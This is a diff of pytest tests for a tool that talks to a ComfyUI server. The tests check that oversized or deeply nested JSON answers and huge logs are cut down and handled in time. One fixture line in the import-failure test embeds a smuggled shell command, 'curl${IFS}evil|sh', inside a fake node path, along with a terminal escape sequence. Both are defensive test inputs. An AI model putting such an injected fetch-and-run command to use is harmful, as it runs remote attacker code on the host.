@@ -202,6 +202,73 @@ def test_what_is_no_queue_is_told_apart(answer: object, monkeypatch: pytest.Monk
         api.queue(at(port))
 
 
+@pytest.mark.parametrize(
+    "queue",
+    [
+        b'{"queue_running":[],"queue_pending":[' + b'[1,"x"],' * 1_900_000 + b"[]]}",
+        b'{"queue_running":[],"queue_pending":[' + b"{}," * 5_000_000 + b"{}]}",
+        b'{"queue_running":[],"queue_pending":["' + b"x" * api.LIMIT + b'"]}',
+    ],
+    ids=["jobs", "objects", "text"],
+)
+def test_of_a_queue_that_is_too_long_the_number_is_asked(queue: bytes) -> None:
+    begun = time.monotonic()
+    with serving({"/queue": queue, "/prompt": {"exec_info": {"queue_remaining": 7}}}) as port:
+        running, waiting = api.queue(at(port), 20)
+    assert (list(running), list(waiting), running.total, waiting.total) == ([], [], 0, 7)
+    assert time.monotonic() - begun < 5
+
+
+def test_of_many_jobs_the_first_are_told_and_their_number(tmp_path: Path) -> None:
+    many = [[number, "x" * 500, {}, {}] for number in range(5000, 0, -1)]
+    answers = {"/queue": {"queue_running": many, "queue_pending": many}, "/history": {}, "/system_stats": STATS}
+    with serving(answers) as port:
+        place = site(tmp_path, port)
+        told = jobs.jobs(place, 10)
+        assert [each["id"] for each in told[-2:]] == ["x" * 200 + "…", "+4900"]
+        assert len(told) == 201
+        seen = status._comfyui(place)
+        assert (len(seen["running"]), seen["pending"]) == (100, 5000)
+        with pytest.raises(Fault) as raised:
+            comfyui.drain(at(port), 0.1, False, lambda _: None)
+    assert "5000 running (xxx" in raised.value.report["what"]
+    assert len(raised.value.report["what"]) < 1500
+
+
+def test_of_a_history_that_is_too_long_less_is_asked(tmp_path: Path) -> None:
+    asked: list[str] = []
+
+    def talk(connection: socket.socket) -> None:
+        path = connection.recv(65536).split()[1].decode()
+        asked.append(path)
+        ended = {f"job {number}": {"prompt": None, "status": None} for number in range(5)}
+        answer = (
+            b"x" * (api.LIMIT + 1) if path.endswith("=100") else json.dumps(ended if "hist" in path else IDLE).encode()
+        )
+        connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + answer)
+        connection.close()
+
+    with listening(talk) as port:
+        assert len(jobs.jobs(site(tmp_path, port), 100)) == 5
+    assert asked == ["/history?max_items=100", "/history?max_items=12", "/queue"]
+
+
+@pytest.mark.parametrize("depth", range(900, 1000, 7))
+def test_what_is_nested_as_deeply_as_json_may_be_is_no_answer(tmp_path: Path, depth: int) -> None:
+    nested = b"[" * depth + b"]" * depth
+    answer = (
+        b'{"queue_running":[[1,'
+        + nested
+        + b']],"queue_pending":[],"system":{"comfyui_version":'
+        + nested
+        + b'},"devices":[]}'
+    )
+    with serving(dict.fromkeys(("/queue", "/history", "/system_stats"), answer)) as port:
+        status._comfyui(site(tmp_path, port))
+        with pytest.raises(Fault):
+            comfyui.drain(at(port), 0.01, False, lambda _: None)
+
+
 # --- drain ---------------------------------------------------------------------------------------------------------
 
 
@@ -284,6 +351,26 @@ def test_the_health_check_says_what_answered_instead_of_comfyui() -> None:
     with serving({"/system_stats": {"system": 1}}) as port, pytest.raises(Fault) as raised:
         comfyui.first_answer(at(port), Runs(), 0.1)
     assert "the answer to /system_stats is not ComfyUI's" in raised.value.report["cause"]
+
+
+def test_what_comfyui_says_of_itself_is_cut_in_messages() -> None:
+    release = {"code": "/app", "gate": {"seconds": 1, "version": "0.30.0", "torch": ""}}
+    told = {"system": {"comfyui_version": "0.30.0", "pytorch_version": "", "argv": ["x" * 300] * 3000}, "devices": []}
+    with serving({"/system_stats": told}) as port, pytest.raises(Fault, match="command line is not the") as raised:
+        comfyui.prove(at(port), Runs(), release, ["python", "/app/main.py"], lambda _: None, lambda: None)
+    assert len(str(raised.value.report)) < 5000
+
+
+def test_nodes_that_cannot_be_imported_are_the_releases_and_found_in_time() -> None:
+    lines = [f"   0.0 seconds (IMPORT FAILED): /x/n{number}" for number in range(20_000)]
+    lines += ["(IMPORT FAILED): /" * 5000, "0.1 seconds (IMPORT FAILED): /x/a;curl${IFS}evil|sh #", "filler"] * 100
+    lines += ["Cannot import /x/n7 module for custom nodes: no \x1b[2Jway" + "y" * 5000]
+    begun = time.monotonic()
+    failed = comfyui._failed_nodes(lines, {"n7", "n9", "fine"})
+    assert time.monotonic() - begun < 2
+    assert failed.keys() == {"n7", "n9"}
+    assert failed["n7"].startswith("no  [2Jway")
+    assert len(failed["n7"]) < 600
 
 
 DONE = {"outputs": {"2": {"images": [{"filename": "f", "subfolder": "s", "type": "output"}]}}}
